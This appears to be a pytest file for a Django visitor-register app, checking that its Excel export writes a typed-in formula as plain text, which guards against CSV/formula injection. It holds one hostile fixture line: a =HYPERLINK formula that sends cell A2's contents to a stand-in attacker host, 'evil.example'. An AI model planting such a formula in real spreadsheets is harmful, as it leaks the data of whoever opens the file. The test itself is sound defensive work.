"""The register's export writes what was typed at the gate (or by the public) as data, never as
a formula."""

from __future__ import annotations

import io

from django.utils import timezone
from openpyxl import load_workbook

from dualtrack.checkpoints.excel import register_export

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"详情")'


def test_a_formula_typed_at_the_gate_is_exported_as_text(register, checkpoint, personas):
    register(name="孙悟空", purpose=HOSTILE)
    today = timezone.localdate()
    content = register_export(
        actor=personas.village_cadre, checkpoint=checkpoint, since=today, until=today
    )
    sheet = load_workbook(io.BytesIO(content)).active
    purpose = sheet.cell(row=2, column=9)
    assert purpose.data_type == "s"
    assert purpose.value == "'" + HOSTILE
    assert sheet.cell(row=2, column=3).value == "孙悟空"
